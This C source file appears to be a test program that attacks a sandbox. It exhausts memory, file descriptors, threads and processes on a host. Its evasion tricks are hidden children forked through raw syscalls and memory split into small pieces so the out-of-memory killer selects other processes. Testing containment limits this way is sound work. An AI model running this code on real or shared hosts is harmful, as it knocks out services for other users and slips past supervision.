/* Takes all it can get, says how much that was, and keeps it until it is killed. */
#include "attack.h"

#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* Children that are none of the deputy's: made by the stub's code, known to nobody. */
static long bare_fork(void) { return inside(SYS_clone, SIGCHLD, 0, 0, 0, 0, 0); }

static void *sleeper(void *unused) {
  pause();
  return unused;
}

/* In portions smaller than anything else on the node, so that whoever looks for the largest finds somebody else. */
static void eat(size_t size) {
  char *memory = mmap(0, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (memory != MAP_FAILED) memset(memory, 1, size);
}

int exhaust(const char *what) {
  long made = 0;
  if (!strcmp(what, "memory")) {
    for (; made < 60; made++)
      if (bare_fork() == 0) {
        eat(20 << 20);
        for (;;) inside(SYS_nanosleep, (u64) & (struct timespec){1000, 0}, 0, 0, 0, 0, 0);
      }
  } else if (!strcmp(what, "descriptors")) {
    int pair[2];
    while (made < 1000000 && inside(SYS_socketpair, AF_UNIX, SOCK_SEQPACKET, 0, (u64)pair, 0, 0) == 0) made += 2;
  } else if (!strcmp(what, "threads")) {
    pthread_attr_t small;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 16384);
    pthread_t thread;
    while (made < 200 && pthread_create(&thread, &small, sleeper, 0) == 0) made++;
  } else if (!strcmp(what, "processes")) {
    /* The limit is its user's, on the hosting node: a lower one of its own shows that it holds, and that there is no way up. */
    u64 limit[2] = {200, 200}, more[2] = {100000, 100000};
    inside(SYS_prlimit64, 0, RLIMIT_NPROC, (u64)limit, 0, 0, 0);
    long raised = inside(SYS_prlimit64, 0, RLIMIT_NPROC, (u64)more, 0, 0, 0);
    printf("raises the limit: %ld\n", raised);
    for (; made < 1000; made++) {
      long pid = bare_fork();
      if (pid == 0)
        for (;;) inside(SYS_nanosleep, (u64) & (struct timespec){1000, 0}, 0, 0, 0, 0, 0);
      if (pid < 0) break;
    }
  } else {
    return 2;
  }
  printf("ends: %ld\n", made);
  pause();
  return 0;
}
